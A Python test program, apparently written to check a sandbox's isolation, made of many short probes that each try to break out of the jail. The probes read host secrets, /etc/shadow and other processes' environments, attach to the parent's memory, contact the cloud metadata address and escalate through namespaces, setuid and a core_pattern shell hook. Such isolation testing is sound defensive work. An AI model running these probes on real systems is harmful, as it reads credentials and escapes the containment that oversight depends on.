# Attack code: each probe is as short as possible.
# ruff: noqa
"""Program that runs in a jail. Each probe tries to reach a resource outside and returns what it reached.

`parameters` contains the paths, ports and process ids outside that an attacker would have to discover first.
"""

import ctypes
import glob
import json
import os
import signal
import socket
import subprocess
import sys
import tempfile

LIBC = ctypes.CDLL(None, use_errno=True)
PROBES = {}
parameters = json.load(open("parameters.json"))


def probe(run):
    PROBES[run.__name__] = run
    return run


def call(number, *arguments):
    """Make a system call by its number. Return the result or raise OSError."""
    result = LIBC.syscall(number, *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def reached(family, address):
    with socket.socket(family) as connection:
        connection.settimeout(2)
        connection.connect(address)
        return f"connected to {address}"


@probe
def host_file_by_path():
    return open(parameters["secret_file"]).read()


@probe
def host_file_through_a_link():
    os.symlink(parameters["secret_file"], "/tmp/link")
    return open("/tmp/link").read()


@probe
def host_file_through_the_root_of_the_first_process():
    return open(f"/proc/1/root{parameters['secret_file']}").read()


@probe
def host_file_through_the_folder_of_a_parent():
    return [open(f"/proc/{pid}/cwd/{parameters['secret_name']}").read() for pid in range(1, 5)]


@probe
def home_of_root():
    return os.listdir("/root")


@probe
def homes():
    return os.listdir("/home")


@probe
def folder_of_the_service():
    return os.listdir(parameters["repository"])


@probe
def shadow_passwords():
    return open("/etc/shadow").read()


@probe
def host_name_files():
    return [open(path).read() for path in ("/etc/hostname", "/etc/machine-id", "/etc/resolv.conf")]


@probe
def environment_of_the_service():
    return [name for name in os.environ if name in parameters["environment"]]


@probe
def environment_of_any_process():
    probe_results = [open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/environ") if os.access(path, os.R_OK)]
    return [text for text in probe_results if parameters["secret"].encode() in text]


@probe
def environment_of_the_first_process():
    return open("/proc/1/environ", "rb").read().decode()


@probe
def command_lines_with_host_paths():
    texts = [open(path, "rb").read() for path in glob.glob("/proc/[0-9]*/cmdline")]
    return [text.decode() for text in texts if parameters["sandboxes"].encode() in text]


@probe
def working_folder_of_the_first_process():
    folder = os.readlink("/proc/1/cwd")
    return folder if folder not in ("/", "/work") else None


@probe
def link_of_a_cache_mount():
    return os.listdir("/oldroot")


@probe
def processes_of_the_host():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and int(pid) > 100]


@probe
def signal_to_the_service():
    os.kill(parameters["service_pid"], 0)
    return "signalled"


@probe
def signal_to_all_processes():
    handler = signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    os.kill(parameters["service_pid"], signal.SIGUSR1)
    signal.signal(signal.SIGUSR1, handler)
    return "signalled"


@probe
def trace_the_service():
    return call(101, 16, parameters["service_pid"], 0, 0)


@probe
def memory_of_the_guest():
    return open(f"/proc/{os.getppid()}/mem", "rb").read(1)


@probe
def descriptors_of_the_guest():
    return os.listdir(f"/proc/{os.getppid()}/fd")


@probe
def database_port():
    return reached(socket.AF_INET, ("127.0.0.1", 5432))


@probe
def database_socket():
    return reached(socket.AF_UNIX, "/var/run/postgresql/.s.PGSQL.5432")


@probe
def service_port():
    return reached(socket.AF_INET, ("127.0.0.1", parameters["service_port"]))


@probe
def service_port_on_the_address_of_the_machine():
    return reached(socket.AF_INET, (parameters["address"], parameters["service_port"]))


@probe
def abstract_socket_of_the_host():
    return reached(socket.AF_UNIX, "\0" + parameters["abstract"])


@probe
def metadata_address():
    return reached(socket.AF_INET, ("169.254.169.254", 80))


@probe
def internet_address():
    return reached(socket.AF_INET, ("1.1.1.1", 443))


@probe
def internet_names():
    return socket.gethostbyname("registry.npmjs.org")


@probe
def network_devices():
    return [name for _, name in socket.if_nameindex() if name != "lo"]


@probe
def raw_packets():
    return socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno()


@probe
def port_of_another_sandbox():
    return reached(socket.AF_INET, ("127.0.0.2", 3000))


@probe
def folder_of_another_sandbox():
    return os.listdir(parameters["other_sandbox"])


@probe
def sockets_of_supervisors():
    return [reached(socket.AF_UNIX, path) for path in parameters["sockets"]]


@probe
def mount_call():
    return call(165, b"tmpfs", b"/tmp", b"tmpfs", 0, 0)


@probe
def unmount_call():
    return call(166, b"/work", 0)


@probe
def write_to_the_system():
    with open("/usr/written", "w") as file:
        return file.fileno()


@probe
def write_to_the_root():
    os.mkdir("/written")
    return "made"


@probe
def write_to_devices():
    with open("/dev/written", "w") as file:
        return file.fileno()


@probe
def new_device():
    os.mknod("/tmp/disk", 0o600 | 0o060000, os.makedev(8, 0))
    return "made"


@probe
def user_namespace():
    return call(272, 0x10000000)


@probe
def namespace_by_clone():
    pid = call(56, 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


@probe
def namespace_by_unshare_program():
    return subprocess.run(
        ["unshare", "--user", "--map-root-user", "id"], capture_output=True, check=True
    ).stdout.decode()


@probe
def namespaces_of_the_first_process():
    with open("/proc/1/ns/net") as file:
        return call(308, file.fileno(), 0)


@probe
def change_of_the_root():
    os.chroot("/tmp")
    return "changed"


@probe
def change_of_the_user():
    os.setuid(0)
    return os.getuid()


@probe
def effective_capabilities():
    lines = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    return [name for name in ("CapEff", "CapPrm", "CapInh", "CapAmb") if int(lines[name], 16)]


@probe
def privileges_of_a_program():
    return int(LIBC.prctl(39, 0, 0, 0, 0)) != 1 and "new privileges are allowed"


@probe
def kernel_settings():
    with open("/proc/sys/kernel/core_pattern", "w") as file:
        return file.write("|/bin/sh")


@probe
def kernel_messages():
    return call(103, 3, ctypes.create_string_buffer(100), 100) or open("/dev/kmsg").read(1)


@probe
def kernel_keys():
    return call(250, 0, -3, 1)


@probe
def bpf_programs():
    return call(321, 0, 0, 0)


@probe
def io_uring():
    return call(425, 1, ctypes.create_string_buffer(120))


@probe
def file_handles():
    return call(304, -100, ctypes.create_string_buffer(16), 0)


@probe
def calls_of_32_bit_programs():
    # int 0x80 uses the 32-bit table. The filter kills such processes.
    code = tempfile.NamedTemporaryFile(suffix=".py", dir="/tmp", delete=False)
    code.write(X32)
    code.close()
    done = subprocess.run([sys.executable, code.name], capture_output=True)
    return done.stdout.decode() if done.returncode == 0 else None


X32 = b"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
if libc.syscall(0x40000000 + 39) > 0:
    print("x32 is answered")
"""


@probe
def control_groups():
    return os.listdir("/sys/fs/cgroup")


@probe
def input_to_the_terminal():
    import fcntl

    return fcntl.ioctl(0, 0x5412, b"x")


@probe
def change_of_the_processor():
    os.sched_setaffinity(0, range(os.cpu_count()))
    return "moved"


def main():
    probe_results = {}
    for name, run in PROBES.items():
        try:
            got = run()
        except (OSError, subprocess.CalledProcessError, ValueError, KeyError) as error:
            probe_results[name] = None
            print(name, "refused:", error)
        else:
            probe_results[name] = repr(got) if got else None
    with open("probe_results.json", "w") as file:
        json.dump(probe_results, file)


main()
